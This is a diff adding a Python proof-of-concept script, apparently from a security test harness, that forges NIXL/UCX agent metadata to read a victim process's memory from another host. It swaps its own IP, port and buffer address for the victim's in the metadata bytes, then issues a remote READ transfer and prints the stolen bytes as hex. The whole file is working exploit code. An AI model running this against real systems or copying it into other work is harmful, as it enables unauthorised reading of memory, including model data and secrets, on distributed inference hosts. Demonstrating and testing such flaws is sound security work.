@@ -1,0 +1,70 @@
+"""Reads a victim's memory through a forged NIXL agent. Runs in a process of its own, on another host than the victim.
+
+    python forged.py '{"own": HOST, "device": NAME, "victim": HOST, "port": N, "address": N, "bytes": N}'
+
+UCX packs host, port and memory address into the metadata that an agent gives away. The script makes an agent of its
+own, puts the victim's in their place, and asks a second agent to read from there. It prints what it got, as JSON.
+"""
+
+from __future__ import annotations
+
+import ctypes
+import json
+import os
+import socket
+import sys
+import time
+from pathlib import Path
+
+from harness.listening import listening
+
+# Longer than a connect over a veth takes. An attempt that hangs has got nothing.
+BOUND_S = 2.0
+
+
+def main(given: dict[str, object]) -> dict[str, object]:
+    os.environ.update(
+        UCX_TLS="tcp", UCX_NET_DEVICES=str(given["device"]), UCX_LOG_LEVEL="fatal", NIXL_LOG_LEVEL="FATAL"
+    )
+    # NIXL reads the variables when it is loaded.
+    from nixl._api import nixl_agent, nixl_agent_config  # type: ignore[import-untyped]
+
+    # Its number in the PID namespace that /proc shows.
+    own = int(Path("/proc/self").readlink().name)
+    size = int(str(given["bytes"]))
+    reader = nixl_agent("reader", nixl_agent_config(backends=["UCX"]))
+    of_reader = listening(own)
+    bait = nixl_agent("bait", nixl_agent_config(backends=["UCX"]))
+    (listens,) = listening(own) - of_reader
+    memory, stolen = (ctypes.create_string_buffer(size) for _ in range(2))
+    bait.register_memory([(ctypes.addressof(memory), size, 0, "")], "DRAM")
+    reader.register_memory([(ctypes.addressof(stolen), size, 0, "")], "DRAM")
+    forged: bytes = bait.get_agent_metadata()
+    own_port = int(listens.rpartition(":")[2])
+    for ours, victims in (
+        (socket.inet_aton(str(given["own"])), socket.inet_aton(str(given["victim"]))),
+        (own_port.to_bytes(2, "big"), int(str(given["port"])).to_bytes(2, "big")),
+        (ctypes.addressof(memory).to_bytes(8, "little"), int(str(given["address"])).to_bytes(8, "little")),
+    ):
+        assert ours in forged, (ours, "nothing to forge")
+        forged = forged.replace(ours, victims)
+    try:
+        name = reader.add_remote_agent(forged)
+        local = reader.get_xfer_descs([(ctypes.addressof(stolen), size, 0)], "DRAM")
+        remote = reader.get_xfer_descs([(int(str(given["address"])), size, 0)], "DRAM")
+        handle = reader.initialize_xfer("READ", local, remote, name)
+        state = reader.transfer(handle)
+        deadline = time.monotonic() + BOUND_S
+        while state == "PROC" and time.monotonic() < deadline:
+            time.sleep(0.02)
+            state = reader.check_xfer_state(handle)
+    except Exception as error:  # noqa: BLE001 - NIXL raises anything
+        state = f"{type(error).__name__}: {error}"
+    return {"state": state, "bytes": stolen.raw.hex()}
+
+
+if __name__ == "__main__":
+    sys.stdout.write(json.dumps(main(json.loads(sys.argv[1]))) + "\n")
+    sys.stdout.flush()
+    # An endpoint that never connected keeps an agent's destructor waiting.
+    os._exit(0)
